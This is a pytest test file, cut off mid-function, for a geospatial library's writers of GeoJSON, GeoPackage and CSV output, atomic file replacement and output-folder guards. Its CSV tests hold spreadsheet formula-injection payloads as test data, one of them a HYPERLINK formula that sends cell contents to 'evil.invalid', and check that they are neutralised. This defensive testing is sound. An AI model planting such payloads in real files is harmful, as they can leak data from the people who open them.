"""Tests for geoconstraints.output.files (and write_result): RFC 7946 findings.geojson, results.gpkg,
CSV, atomic replacement, and the output-folder guard."""

from __future__ import annotations

import hashlib
import io
import json
import re
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
import shapely
from catalogue import sample_gpkg
from common import NY_FT, X0, Y0
from conftest import tree_hashes
from pyproj import Transformer
from shapely.geometry import LineString, MultiPolygon, Point, Polygon, box

from geoconstraints import load_layers, load_rulebook
from geoconstraints.errors import OutputError
from geoconstraints.output import files as writers
from geoconstraints.output import write_result
from geoconstraints.result import make_result
from geoconstraints.rulebook.findings import FINDING_COLUMNS, findings_frame

CONTRACT_PROPERTIES = ["rule_id", "rulebook", "status", "citation", "subject_layer", "subject_id", "measured",
                       "threshold", "unit", "message"]  # the output contract: the first properties of a finding


def _findings(crs=NY_FT):
    rb = load_rulebook("vestal")
    r = rb["HRV-010"]
    items = [
        r.findings("violation", subject_layer="haul_roads", subject_id="R1", measured=412.5, threshold=200.0,
                  unit="ft", geometry=LineString([(X0, Y0), (X0 + 400, Y0 + 50)]), detail="d"),
        r.findings("pass", subject_layer="haul_roads", subject_id="R2", measured=0.0, threshold=200.0, unit="ft",
                  geometry=Point(X0, Y0), detail="d"),
        rb["SQR-001"].findings("info", detail="run-wide, no place"),  # no geometry, no measured value
    ]
    return findings_frame(items, crs=crs)


def test_geojson_ready_keeps_text_as_held():
    # the text columns GDAL is handed stay Arrow text (no Python string per row and back), the same values
    from geoconstraints.output.files import geojson_ready

    f = _findings()
    ready = geojson_ready(f)
    for c in ("rule_id", "status", "subject_id", "message"):
        assert isinstance(f[c].dtype, pd.StringDtype), c
        assert isinstance(ready[c].dtype, pd.StringDtype), c
        assert ready[c].tolist() == f[c].tolist(), c
    assert ready["measured"].tolist()[:2] == [412.5, 0.0] and pd.isna(ready["measured"].iloc[2])


def _strict_json(text):
    def bad(token):
        raise AssertionError(f"non-standard JSON token {token}")
    return json.loads(text, parse_constant=bad)


def _strays(folder: Path):
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


# ------------------------------------------------------------------------------------------
# findings.geojson

def test_geojson_is_rfc7946(tmp_path):
    target = writers.write_geojson(_findings(), tmp_path / "findings.geojson")
    data = _strict_json(target.read_text("utf-8"))
    assert data["type"] == "FeatureCollection"
    assert "crs" not in data  # RFC 7946 §4: no crs member
    assert len(data["features"]) == 3
    for ft in data["features"]:
        assert ft["type"] == "Feature"
        assert list(ft["properties"]) == FINDING_COLUMNS
        assert list(ft["properties"])[:10] == CONTRACT_PROPERTIES
    by_id = {ft["properties"]["subject_id"]: ft for ft in data["features"]}
    point = by_id["R2"]["geometry"]
    assert point["type"] == "Point"
    # the point (X0, Y0) in EPSG:2261 is Vestal at lon -76.05, lat 42.08 (pyproj, independently)
    lon, lat = Transformer.from_crs(NY_FT, 4326, always_xy=True).transform(X0, Y0)
    assert point["coordinates"] == pytest.approx([lon, lat], abs=1e-7)
    assert point["coordinates"] == pytest.approx([-76.05, 42.08], abs=1e-3)
    line = by_id["R1"]["geometry"]
    assert line["type"] == "LineString" and len(line["coordinates"]) == 2
    assert all(-76.06 < x < -76.04 and 42.07 < y < 42.09 for x, y in line["coordinates"])
    info = by_id[""]
    assert info["geometry"] is None
    assert info["properties"]["measured"] is None and info["properties"]["threshold"] is None
    assert by_id["R1"]["properties"]["measured"] == 412.5
    assert by_id["R1"]["properties"]["status"] == "violation"
    assert by_id["R1"]["properties"]["rulebook"] == "vestal"
    assert by_id["R1"]["properties"]["citation"] == "Vestal Code 1966 § 44-VI-6(F)(1)"


def _signed_area(ring):
    """Shoelace area of a closed ring: positive when counter-clockwise (lon east, lat north)."""
    xy = np.asarray(ring, dtype=float)
    return 0.5 * float(np.sum(xy[:-1, 0] * xy[1:, 1] - xy[1:, 0] * xy[:-1, 1]))


def _polygon_findings():
    """Polygons of every winding: a clockwise square, a counter-clockwise one with a clockwise
    hole, a multipolygon with a counter-clockwise hole, a GEOS overlay result (clockwise)."""
    r = load_rulebook("vestal")["FLD-001"]
    cw = Polygon([(X0, Y0), (X0, Y0 + 100), (X0 + 100, Y0 + 100), (X0 + 100, Y0)])
    holed = Polygon(box(X0 + 200, Y0, X0 + 400, Y0 + 200).exterior.coords,
                    [list(box(X0 + 250, Y0 + 50, X0 + 300, Y0 + 100).exterior.coords)[::-1]])
    multi = MultiPolygon([Polygon(list(box(X0 + 500, Y0, X0 + 600, Y0 + 100).exterior.coords)[::-1],
                                  [list(box(X0 + 520, Y0 + 20, X0 + 540, Y0 + 40).exterior.coords)]),
                          box(X0 + 700, Y0, X0 + 800, Y0 + 100)])
    overlay = box(X0, Y0 + 300, X0 + 150, Y0 + 400).intersection(box(X0 + 50, Y0 + 250, X0 + 300, Y0 + 350))
    geoms = [cw, holed, multi, overlay]
    assert not cw.exterior.is_ccw and not overlay.exterior.is_ccw  # inputs the writer must turn
    items = r.findings(np.array(["violation"] * 4, dtype=object), subject_layer="parcels",
                       subject_id=pd.Series([f"P{i}" for i in range(4)]), measured=np.arange(4.0), unit="acres",
                       geometry=geoms, crs=NY_FT, detail="d")
    return findings_frame([items], crs=NY_FT), geoms


def test_geojson_polygons_wind_counter_clockwise_and_match_pyproj(tmp_path):
    findings, geoms = _polygon_findings()
    data = _strict_json(writers.write_geojson(findings, tmp_path / "f.geojson").read_text("utf-8"))
    to_wgs84 = Transformer.from_crs(NY_FT, 4326, always_xy=True)
    n_rings = 0
    for ft in data["features"]:
        g = ft["geometry"]
        polys = [g["coordinates"]] if g["type"] == "Polygon" else g["coordinates"]
        for rings in polys:
            assert _signed_area(rings[0]) > 0, ft["properties"]["subject_id"]  # exterior CCW
            assert all(_signed_area(h) < 0 for h in rings[1:])  # holes clockwise
            n_rings += len(rings)
        # every vertex is one of the input's vertices, transformed by pyproj, within 1e-7 degrees
        src = shapely.get_coordinates(geoms[int(ft["properties"]["subject_id"][1:])])
        lon, lat = to_wgs84.transform(src[:, 0], src[:, 1])
        got = shapely.get_coordinates(shapely.from_geojson(json.dumps(g)))
        d = np.hypot(got[:, None, 0] - lon[None, :], got[:, None, 1] - lat[None, :]).min(axis=1)
        assert d.max() <= 1e-7
    assert n_rings == 1 + 2 + 3 + 1


def test_geojson_properties_round_trip_and_null_numbers(tmp_path):
    f = _findings()
    f.loc[0, "message"] = 'Say "hi" – Straße, <b>&amp;</b>\nnext line'
    f.loc[1, "measured"] = np.inf  # never a value in findings.geojson: null, as NaN is
    data = _strict_json(writers.write_geojson(f, tmp_path / "f.geojson").read_text("utf-8"))
    for ft, (_, row) in zip(data["features"], f.iterrows()):
        for c in FINDING_COLUMNS:
            want = row[c]
            if isinstance(want, float) and not np.isfinite(want):
                want = None
            assert ft["properties"][c] == want, c
    assert data["features"][1]["properties"]["measured"] is None


def test_geojson_coordinates_rounded(tmp_path):
    data = writers.findings_geojson(_findings(), precision=5)
    x, y = next(ft for ft in data["features"] if ft["geometry"] and ft["geometry"]["type"] == "Point")["geometry"]["coordinates"]
    assert round(x, 5) == x and round(y, 5) == y


def test_geojson_empty_and_no_crs(tmp_path):
    target = writers.write_geojson(findings_frame([], crs=NY_FT), tmp_path / "findings.geojson")
    data = _strict_json(target.read_text("utf-8"))
    assert data["type"] == "FeatureCollection" and data["features"] == [] and "crs" not in data
    # only RFC 7946 members and GDAL's foreign members
    assert set(data) <= {"type", "features", "name", "xy_coordinate_resolution"}
    with pytest.raises(OutputError, match="no CRS"):
        writers.findings_geojson(_findings(crs=None))
    # findings with no place at all need no CRS (a SEQR classification)
    f = _findings(crs=None)
    f = f[f["subject_id"] == ""]
    assert [ft["geometry"] for ft in writers.findings_geojson(f)["features"]] == [None]


def test_geojson_empty_geometry_is_null():
    f = _findings()
    f.loc[0, "geometry"] = LineString()
    data = writers.findings_geojson(f)
    assert sum(ft["geometry"] is None for ft in data["features"]) == 2


def test_geojson_never_over_an_input(tmp_path):
    inp = tmp_path / "parcels.geojson"
    inp.write_text('{"an": "input"}')
    with pytest.raises(OutputError, match="parcels.geojson is one of the inputs"):
        writers.write_geojson(_findings(), inp, inputs=[inp])
    assert inp.read_text() == '{"an": "input"}'
    assert _strays(tmp_path) == []


# ------------------------------------------------------------------------------------------
# results.gpkg, csv

def test_gpkg_layers_readable(tmp_path):
    f = _findings()
    derived = gpd.GeoDataFrame({"id": ["a"], "tags": [["x", "y"]]}, geometry=[box(X0, Y0, X0 + 1, Y0 + 1)], crs=NY_FT)
    table = pd.DataFrame({"parcel_id": ["P1", "P2"], "acres": [1.5, np.nan], "mixed": [1, "two"]})
    target = writers.write_gpkg({"findings": f, "strips": derived, "parcels": table}, tmp_path / "results.gpkg", crs=NY_FT)
    names = [n for n, _ in pyogrio.list_layers(target)]
    assert set(names) == {"findings", "strips", "parcels"}
    back = pyogrio.read_dataframe(target, layer="findings")
    assert back.crs.to_epsg() == 2261
    assert list(back.columns) == FINDING_COLUMNS + ["geometry"]
    assert back["subject_id"].tolist() == f["subject_id"].tolist()
    assert back["measured"].iloc[0] == 412.5
    strips = pyogrio.read_dataframe(target, layer="strips")
    assert json.loads(strips["tags"].iloc[0]) == ["x", "y"]  # lists written as JSON text
    parcels = pyogrio.read_dataframe(target, layer="parcels", read_geometry=False)
    assert parcels["mixed"].tolist() == ["1", "two"]
    assert _strays(tmp_path) == []


def test_gpkg_with_nothing_is_valid(tmp_path):
    target = writers.write_gpkg({}, tmp_path / "results.gpkg", crs=NY_FT)
    assert [n for n, _ in pyogrio.list_layers(target)] == ["findings"]


def test_csv_drops_geometry(tmp_path):
    target = writers.write_csv(_findings(), tmp_path / "f.csv")
    back = pd.read_csv(target)
    assert list(back.columns) == FINDING_COLUMNS
    assert len(back) == 3


# ------------------------------------------------------------------------------------------
# atomic writing

def test_text_write_failure_keeps_previous(tmp_path, monkeypatch):
    target = tmp_path / "report.html"
    target.write_text("previous report")

    def half_then_fail(self, text, encoding=None):
        with open(self, "w", encoding=encoding) as fh:
            fh.write(text[:5])
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(Path, "write_text", half_then_fail)
    with pytest.raises(OSError, match="No space left"):
        writers.write_text(target, "new report, much longer")
    monkeypatch.undo()
    assert target.read_text() == "previous report"
    assert _strays(tmp_path) == []


def test_gpkg_write_failure_keeps_previous(tmp_path, monkeypatch):
    target = writers.write_gpkg({"findings": _findings()}, tmp_path / "results.gpkg", crs=NY_FT)
    before = target.read_bytes()
    real = pyogrio.write_arrow
    calls = []

    def second_layer_fails(*a, **kw):
        calls.append(kw.get("layer"))
        if len(calls) == 2:
            raise RuntimeError("disk full")
        return real(*a, **kw)

    monkeypatch.setattr(pyogrio, "write_arrow", second_layer_fails)  # the one GDAL call of the writers
    with pytest.raises(RuntimeError, match="disk full"):
        writers.write_gpkg({"findings": _findings(), "parcels": pd.DataFrame({"a": [1]})}, target, crs=NY_FT)
    assert calls == ["findings", "parcels"]  # the first layer was written to the temporary file
    assert target.read_bytes() == before
    assert _strays(tmp_path) == []


def test_success_replaces_whole_file(tmp_path):
    target = tmp_path / "findings.geojson"
    target.write_text("x" * 100_000)
    writers.write_geojson(_findings(), target)
    assert _strict_json(target.read_text())["type"] == "FeatureCollection"
    assert _strays(tmp_path) == []


# ------------------------------------------------------------------------------------------
# output folder guard

def test_prepare_out_dir_creates_nested(tmp_path):
    out = writers.prepare_out_dir(tmp_path / "a" / "b")
    assert out.is_dir()


def test_out_dir_is_a_file(tmp_path):
    f = tmp_path / "notes.txt"
    f.write_text("keep")
    with pytest.raises(OutputError, match="notes.txt is an existing file, not a folder"):
        writers.prepare_out_dir(f)
    assert f.read_text() == "keep"


def test_out_dir_would_overwrite_input(tmp_path):
    inp = tmp_path / "results.gpkg"
    inp.write_bytes(b"input")
    with pytest.raises(OutputError, match="results.gpkg is one of the inputs"):
        writers.prepare_out_dir(tmp_path, [inp])
    with pytest.raises(OutputError, match="is an existing file \\(one of the inputs\\)"):
        writers.check_out_dir(inp, [inp])
    writers.check_out_dir(tmp_path / "new", [inp])
    assert not (tmp_path / "new").exists()  # checking creates nothing
    assert inp.read_bytes() == b"input"


# ------------------------------------------------------------------------------------------
# file names from feature ids: one file per id, on a case-insensitive file system too

def test_file_names_of_ids_that_differ_only_in_case_are_distinct():
    # macOS (APFS) and Windows (NTFS) fold case: report_parcel_A-1 and report_parcel_a-1, or
    # profile_haul_roads_H-1.png and ..._h-1.png, are one file there, the second written replacing the first
    ids = ["A-1", "a-1", "B-2", "a/b", "a_b-c14cddc0", "P" * 300 + "a", "P" * 300 + "A", "H-1", "h-1", "h-1 "]
    assert len({writers.id_file_part(i).casefold() for i in ids}) < len(ids)  # what one id alone gives
    parts = writers.distinct_file_parts(ids)
    assert list(parts) == ids
    assert len({p.casefold() for p in parts.values()}) == len(ids)
    assert all(re.fullmatch(r"[A-Za-z0-9._-]+", p) and len(p) <= writers.ID_NAME_CHARS for p in parts.values())
    # an id that clashes with no other keeps its own name; the clashing ones each get a hash of their own id
    assert parts["B-2"] == "B-2" and parts["a/b"] == writers.id_file_part("a/b")
    assert parts["A-1"] == "A-1-" + hashlib.sha256(b"A-1").hexdigest()[:8]
    assert parts["a-1"] == "a-1-" + hashlib.sha256(b"a-1").hexdigest()[:8]
    # deterministic: the same names whatever the order, and an id given twice is one name
    assert writers.distinct_file_parts(reversed(ids)) == parts
    assert writers.distinct_file_parts(["A-1", "A-1"]) == {"A-1": "A-1"}
    # a name still clashing after 8 hex digits (an id spelled like another's hashed name) gets more
    spelled = ["A-1", "a-1", "a-1-" + hashlib.sha256(b"A-1").hexdigest()[:8]]
    got = writers.distinct_file_parts(spelled)
    assert len({p.casefold() for p in got.values()}) == 3


def test_handout_names_among_other_handouts_are_distinct():
    from geoconstraints.output import report

    assert report.parcel_report_name("A-1") == "report_parcel_A-1.html"  # one handout: its own name
    among = ["A-1", "a-1", "B-2"]
    names = [report.parcel_pdf_name(p, among=among) for p in among]
    assert len({n.casefold() for n in names}) == 3 and names[2] == "report_parcel_B-2.pdf"


# ------------------------------------------------------------------------------------------
# Result.write end to end (load_layers -> findings -> outputs)

def _result(tmp_path, folder="in"):
    d = tmp_path / folder
    d.mkdir()
    layers = load_layers(sample_gpkg(d))
    rb = load_rulebook("vestal")
    p = layers["parcels"]
    items = rb["FLD-001"].findings(np.array(["violation", "pass", "pass"], dtype=object), subject_layer="parcels",
                                   subject_id=p["feature_id"], measured=p.area / 43_560, unit="acres",
                                   geometry=p.geometry.values, crs=layers.crs, detail="in zone AE")
    return make_result("screen", rb, [items], layers, tables={"parcels": p.drop(columns="geometry")}), d


def test_result_write(tmp_path):
    res, d = _result(tmp_path)
    before = tree_hashes(d)
    written = write_result(res, tmp_path / "out" / "run1", findings="all")
    assert {"findings.geojson", "results.gpkg", "parcels.csv", "report.html", "map.html"} <= set(written)
    data = _strict_json((tmp_path / "out" / "run1" / "findings.geojson").read_text())
    assert [ft["properties"]["status"] for ft in data["features"]] == ["violation", "pass", "pass"]
    # a screening's default: only what needs a person
    write_result(res, tmp_path / "out" / "run2")
    data = _strict_json((tmp_path / "out" / "run2" / "findings.geojson").read_text())
    assert [ft["properties"]["status"] for ft in data["features"]] == ["violation"]
    # 200 ft x 200 ft = 40,000 sq ft = 0.9183 acres
    assert data["features"][0]["properties"]["measured"] == pytest.approx(40_000 / 43_560)
    assert {n for n, _ in pyogrio.list_layers(written["results.gpkg"])} >= {"findings_polygon", "parcels"}
    assert tree_hashes(d) == before


def test_result_write_refuses_input_folder_collision(tmp_path):
    res, d = _result(tmp_path)
    (d / "findings.geojson").write_text('{"an": "input"}')
    # make findings.geojson one of the inputs by registering it like a layer file
    res.layers.info["parcels"].path = str(d / "findings.geojson")
    before = tree_hashes(d)
    with pytest.raises(OutputError, match="is one of the inputs and lies inside --out"):
        write_result(res, d)
    assert tree_hashes(d) == before
    assert not (d / "results.gpkg").exists()  # nothing written before the refusal


def test_result_write_out_is_file(tmp_path):
    res, d = _result(tmp_path)
    before = tree_hashes(d)
    with pytest.raises(OutputError, match="town.gpkg is an existing file"):
        write_result(res, d / "town.gpkg")
    assert tree_hashes(d) == before


# ------------------------------------------------------------------------------------------
# CSV for spreadsheets: rounded numbers, no formulas

def test_csv_rounds_by_unit_and_keeps_ids():
    t = pd.DataFrame({"parcel_id": ["007", "P-1"], "area_acres": [0.918273645, 1.0], "sfha_share": [0.333333333, 1.0],
                      "stream_distance_ft": [123.456789, np.nan], "sfha_acres_change": [-0.000123456, 0.0],
                      "precip_in": [1.23456, 0.5], "water_bars": [3.0, 4.0], "n": [1, 2]})
    out = writers.csv_ready(t)
    assert out["parcel_id"].tolist() == ["007", "P-1"]  # ids unchanged (and not numbers)
    assert out["area_acres"].tolist() == [0.9183, 1.0]  # acres: 4 decimals
    assert out["sfha_share"].tolist() == [0.3333, 1.0]  # shares: 4
    assert out["stream_distance_ft"].iloc[0] == 123.46 and np.isnan(out["stream_distance_ft"].iloc[1])  # feet: 2
    assert out["sfha_acres_change"].tolist() == [-0.0001, 0.0]  # the unit word anywhere in the name
    assert out["precip_in"].tolist() == [1.23, 0.5]
    assert out["water_bars"].tolist() == [3.0, 4.0] and out["n"].tolist() == [1, 2]  # no unit: as they are


def test_findings_csv_rounds_measured_by_its_unit(tmp_path):
    f = _findings()
    f.loc[:, "measured"] = 1 / 3
    f.loc[:, "unit"] = ["acres", "ft", "count"][: len(f)] + [""] * max(0, len(f) - 3)
    back = pd.read_csv(writers.write_csv(f, tmp_path / "findings.csv"), keep_default_na=False)
    assert back["measured"].tolist()[:3] == [0.3333, 0.33, pytest.approx(1 / 3, abs=1e-15)]
    assert "geometry" not in back.columns


@pytest.mark.parametrize("cell", ["=HYPERLINK(\"http://x.invalid\",\"Click\")", "+1+2", "-2+3", "@SUM(A1)",
                                  "\t=1", "\r=1"])
def test_csv_cells_that_start_a_formula_are_neutralised(tmp_path, cell):
    t = pd.DataFrame({"parcel_id": [cell, "P-2"], "note": ["ok", cell]})
    back = pd.read_csv(writers.write_csv(t, tmp_path / "t.csv"), dtype=str, keep_default_na=False)
    assert back["parcel_id"].tolist() == ["'" + cell, "P-2"]  # a CR inside a cell is quoted (CRLF rows)
    assert back["note"].tolist() == ["ok", "'" + cell]


def test_hostile_attribute_is_neutralised_end_to_end(tmp_path, runner):
    from catalogue import flood_zones, parcels, write_gpkg

    from geoconstraints.cli import main

    p = parcels()
    evil = '=HYPERLINK("http://evil.invalid/?"&A1,"Click me")'
    p["parcel_id"] = [evil, "@SUM(1+1)", "P3"]
    p["zoning"] = ["-1+1", "RA-1", "+cmd"]
    gpkg = write_gpkg(tmp_path / "t.gpkg", {"parcels": p, "flood_zones": flood_zones()})
    res = runner.invoke(main, ["screen", str(gpkg), "--out", str(tmp_path / "out"), "--findings", "all"])
    assert res.exit_code == 0, res.output
    out = tmp_path / "out"
    parcels_csv = pd.read_csv(out / "parcels.csv", dtype=str, keep_default_na=False)
    assert parcels_csv["parcel_id"].tolist() == ["'" + evil, "'@SUM(1+1)", "P3"]
    assert parcels_csv["zoning_districts"].tolist() == ["'-1+1", "RA-1", "'+CMD"]  # zoning names upper-cased on loading
    findings_csv = pd.read_csv(out / "findings.csv", dtype=str, keep_default_na=False)
    assert ("'" + evil) in set(findings_csv["subject_id"]) and evil not in set(findings_csv["subject_id"])
    text = (out / "parcels.csv").read_text("utf-8") + (out / "findings.csv").read_text("utf-8")
    for line in text.splitlines():  # no cell anywhere starts a formula
        for cell in line.split(","):
            assert not cell.lstrip('"').startswith(("=", "+", "@")), line
    # the GIS files keep the value as it is (they are not spreadsheets)
    assert evil in set(pyogrio.read_dataframe(out / "results.gpkg", layer="parcels")["parcel_id"])


# ------------------------------------------------------------------------------------------
# CSV text by pyarrow, byte for byte as pandas writes it

ODD_TEXT = ["plain", "", None, "a,b", 'say "hi"', "two\nlines", "cr\ronly", "crlf\r\nrow", "=1+1", "+1", "-x",
            "@SUM(A1)", "\t=1", "\r=1", " lead and trail ", "Vestal ≥ 1 ft · é 中", "'quoted already", "nul\x00byte"]


def _pandas_csv(table: pd.DataFrame) -> bytes:
    return table.to_csv(index=False, lineterminator="\r\n").encode("utf-8")


def _odd_table(n: int = len(ODD_TEXT)) -> pd.DataFrame:
    rng = np.random.default_rng(7)
    text = (ODD_TEXT * (n // len(ODD_TEXT) + 1))[:n]
    floats = np.concatenate([[np.nan, np.inf, -np.inf, -0.0, 0.0, 1e-05, 1e-4, 9999999999.0, 1e10, 1e16, 5e-324,
                              1.7976931348623157e308, 100.0, 0.1, -2.5, 123456.789],
                             rng.integers(0, 2 ** 64, n, dtype=np.uint64).view(np.float64)])[:n]
    return pd.DataFrame({"parcel_id": pd.array(text, dtype="str"), "note": pd.Series(text[::-1], dtype=object),
                         "py_text": pd.array(text, dtype=pd.StringDtype("python")),
                         "measured": floats, "count": np.arange(n) - 3, "flag": np.arange(n) % 3 == 0,
                         "=name, with \"quotes\"": floats[::-1]})


@pytest.mark.parametrize("rows", [len(ODD_TEXT), 500])
def test_csv_text_is_pandas_byte_for_byte(tmp_path, monkeypatch, rows):
    from geoconstraints.output import csvtext

    monkeypatch.setattr(csvtext, "CHUNK_ROWS", 7)  # rows written in several blocks
    table = writers.csv_ready(_odd_table(rows))
    buf = io.BytesIO()
    assert csvtext.write_table(table, buf)  # every column type is handled here, not by pandas
    assert buf.getvalue() == _pandas_csv(table)
    target = writers.write_csv(_odd_table(rows), tmp_path / "t.csv")
    assert target.read_bytes() == _pandas_csv(table)
    back = pd.read_csv(target, dtype=str, keep_default_na=False)
    assert back["parcel_id"].tolist()[:9] == ["plain", "", "", "a,b", 'say "hi"', "two\nlines", "cr\ronly",
                                             "crlf\r\nrow", "'=1+1"]  # quoted where needed, neutralised


@pytest.mark.parametrize("table", [
    pd.DataFrame({"a": np.array([1.5, np.nan], dtype=np.float32), "b": ["x", "y"]}),  # float32: numpy's text
    pd.DataFrame({"a": [1, "two"], "b": [None, 2.5]}),  # mixed objects
    pd.DataFrame({"a": pd.array([1, None], dtype="Int64"), "b": ["x", "y"]}),  # nullable integers
    pd.DataFrame({"when": pd.to_datetime(["2026-01-02", None]), "b": ["x", "y"]}),
    pd.DataFrame({"only": ["", "x"]}),  # one column: the csv writer quotes an empty row
    pd.DataFrame({"a": pd.Series([], dtype=float), "b": pd.Series([], dtype=str)}),
])
def test_csv_of_other_columns_is_written_by_pandas(tmp_path, table):
    from geoconstraints.output import csvtext

    assert not csvtext.write_table(table, io.BytesIO())  # nothing written: pandas writes it
    ready = writers.csv_ready(table)
    assert writers.write_csv(table, tmp_path / "t.csv").read_bytes() == _pandas_csv(ready)


def test_float_text_is_numpys_for_any_double():
    from geoconstraints.output import csvtext

    rng = np.random.default_rng(11)
    bits = rng.integers(0, 2 ** 64, 200_000, dtype=np.uint64)  # every exponent, sign, NaN and inf
    values = np.concatenate([bits.view(np.float64), np.round(rng.normal(0, 1e4, 100_000), 2),
                             10.0 ** rng.uniform(-7, 12, 100_000), np.nextafter(1e-4, 0), np.nextafter(1e10, 0)],
                            axis=None)
    expected = np.where(np.isnan(values), None, values.astype(str)).tolist()
    assert csvtext.float_text(values).to_pylist() == expected


@pytest.mark.parametrize("driver, geometry_type, promote", [("GPKG", "MultiPolygon", True), ("GeoJSON", "Unknown", None),
                                                           ("GPKG", "Polygon", False)])
def test_arrow_layer_is_what_pyogrio_hands_gdal(monkeypatch, driver, geometry_type, promote):
    # files.arrow_layer builds the Arrow table the writers (here or in the child) hand GDAL; it must be
    # the one pyogrio.write_dataframe(use_arrow=True) would build: caught at pyogrio's write_arrow
    import datetime as dt

    import pyogrio.raw

    seen = []
    monkeypatch.setattr(pyogrio.raw, "write_arrow", lambda table, path, **kw: seen.append((table, kw)))
    t0 = dt.datetime(2026, 3, 1, 12, 0)
    df = gpd.GeoDataFrame({
        "text": pd.Series(["a", None, "c", "d"], dtype="str"),
        "none": [None, None, None, None],  # Arrow's null type: text for GDAL
        "flag": [True, None, False, True],
        "x": [1.5, float("nan"), float("inf"), -2.0],
        "n": [1, 2, 3, 4],
        "when": [t0, None, t0, t0],  # an object column of datetimes: text marked DateTime
        "tz": pd.to_datetime(["2026-03-01 12:00"] * 4).tz_localize("America/New_York"),
    }, geometry=[box(0, 0, 1, 1), MultiPolygon([box(2, 2, 3, 3), box(4, 4, 5, 5)]), None, Polygon()], crs=NY_FT)
    pyogrio.write_dataframe(df, "/vsimem/x", layer="t", driver=driver, geometry_type=geometry_type,
                            promote_to_multi=promote, use_arrow=True, layer_options={"A": "B"})
    ours = writers.arrow_layer(df, "t", driver=driver, geometry_type=geometry_type, promote_to_multi=bool(promote),
                               layer_options={"A": "B"})
    table, kw = seen[0]
    assert ours[0].equals(table, check_metadata=True)
    assert ours[1] == {k: v for k, v in kw.items() if v is not None and k not in ("append",)}


@pytest.mark.parametrize("geometry_type, promote", [("Polygon", False), ("MultiPolygon", True)])
def test_arrow_layer_with_the_geoparquet_wkb_is_the_same_table(geometry_type, promote):
    # results.gpkg's parcels layer takes its geometry from parcels.parquet's table (the parcels encoded once):
    # the very table encoding them here gives; promoted to multi-parts, that WKB cannot serve and is not used
    df = gpd.GeoDataFrame({"parcel_id": pd.Series(["1", "2", "3", "4"], dtype="str"), "x": [1.5, np.nan, 2.0, 0.0]},
                          geometry=[box(0, 0, 1, 1), None, Polygon(), MultiPolygon([box(2, 2, 3, 3)])], crs=NY_FT)
    wkb = writers.geoparquet_table(df).column("geometry")
    ours = writers.arrow_layer(df, "t", driver="GPKG", geometry_type=geometry_type, promote_to_multi=promote, wkb=wkb)
    alone = writers.arrow_layer(df, "t", driver="GPKG", geometry_type=geometry_type, promote_to_multi=promote)
    assert ours[0].equals(alone[0], check_metadata=True)
    assert ours[1] == alone[1]
    assert ours[0].column("geometry").null_count == 1  # the missing geometry stays missing
    with pytest.raises(OutputError, match="layer t: 3 encoded geometries for 4 rows"):
        writers.arrow_layer(df, "t", driver="GPKG", geometry_type="Polygon", wkb=wkb.slice(0, 3))


def test_geoparquet_wkb_of_3d_parcels_reads_back_the_same_from_the_geopackage(tmp_path):
    # GeoParquet's WKB is ISO, GDAL's default here "extended": they differ for 3D geometries, and GDAL reads both
    # as the same geometry
    df = gpd.GeoDataFrame({"parcel_id": ["1", "2"]}, geometry=[Polygon([(0, 0, 5), (1, 0, 6), (1, 1, 7)]),
                                                               box(0, 0, 2, 2)], crs=NY_FT)
    wkb = writers.geoparquet_table(df).column("geometry")
    assert shapely.to_wkb(df.geometry.values[0], flavor="iso") != shapely.to_wkb(df.geometry.values[0])
    a = writers.write_gpkg({"parcels": df}, tmp_path / "a.gpkg", wkb={"parcels": wkb})
    b = writers.write_gpkg({"parcels": df}, tmp_path / "b.gpkg")
    back_a, back_b = (pyogrio.read_dataframe(p, layer="parcels") for p in (a, b))
    assert shapely.equals_exact(back_a.geometry.values, back_b.geometry.values, tolerance=0).all()
    assert back_a.geometry.has_z.tolist() == [True, False]


@pytest.mark.parametrize("geoms, expected", [
    ([box(0, 0, 1, 1), None, Polygon()], "Polygon"),  # missing and empty rows do not make it mixed
    ([box(0, 0, 1, 1), MultiPolygon([box(2, 2, 3, 3)])], "MultiPolygon"),
    ([LineString([(0, 0), (1, 1)]), shapely.multilinestrings([LineString([(0, 0), (1, 0)])])], "MultiLineString"),
    ([Point(0, 0), shapely.geometrycollections([Point(1, 1)])], "Point"),  # collections do not count
    ([Point(0, 0), box(0, 0, 1, 1)], "Unknown"),
    ([None, None], "Unknown"),
    ([shapely.linearrings([(0, 0), (1, 0), (1, 1)])], "LinearRing"),
])
def test_layer_geometry_type_from_type_ids_is_geopandas_names(geoms, expected):
    # the GeoPackage layer type comes from shapely's type ids (a county's parcels: no type name per row); by
    # hand above, and the same as the rule on GeoSeries.geom_type names it replaced
    gdf = gpd.GeoDataFrame({"a": range(len(geoms))}, geometry=gpd.GeoSeries(geoms))
    assert writers._geometry_type(gdf) == expected
    names = set(gdf.geometry.dropna().geom_type.unique()) - {"GeometryCollection"}
    fam = {t.replace("Multi", "") for t in names}
    by_names = ("Unknown" if len(fam) != 1 else
                ("Multi" if any(t.startswith("Multi") for t in names) else "") + next(iter(fam)))
    assert writers._geometry_type(gdf) == by_names
    assert writers._geometry_type(gdf.iloc[:0]) == "Unknown"


def test_split_findings_keeps_arrow_text_and_the_rows_of_each_family():
    # findings typed as a run types them (Arrow-backed text): each layer holds its rows in order, its text
    # still Arrow-backed (never turned into Python strings and back), and a layer of every row is the table
    f = findings_frame([gpd.GeoDataFrame({"rule_id": ["A", "B", "C", "D"], "rulebook": "r", "status": "review",
                                          "citation": "c", "subject_layer": "parcels", "subject_id": ["1", "2", "3", "4"],
                                          "measured": [1.0, 2.0, 3.0, 4.0], "threshold": np.nan, "unit": "ft",
                                          "message": "m", "title": "t", "reading": "", "waived": ""},
                                         geometry=[box(0, 0, 1, 1), Point(5, 5), box(2, 2, 3, 3), None])])
    out = writers.split_findings(f)
    assert out["findings_polygon"]["rule_id"].tolist() == ["A", "C"]
    assert out["findings_point"]["measured"].tolist() == [2.0]
    assert out["findings_nogeom"]["subject_id"].tolist() == ["4"] and out["findings_line"].empty
    assert str(out["findings_polygon"]["message"].dtype) == str(f["message"].dtype)
    polys = f[f["rule_id"].isin(["A", "C"])].reset_index(drop=True)
    one = writers.split_findings(polys)["findings_polygon"]
    pd.testing.assert_frame_equal(pd.DataFrame(one.drop(columns="geometry")), pd.DataFrame(polys.drop(columns="geometry")))
    assert one.geometry.equals(polys.geometry)


def _geometry_zoo():
    """Every kind a layer can hold, each as one object: single and multi, 3D, empty, missing, a ring."""
    poly = Polygon([(0, 0), (4, 0), (4, 3), (0, 3)], [[(1, 1), (2, 1), (2, 2), (1, 1)]])
    return np.array([
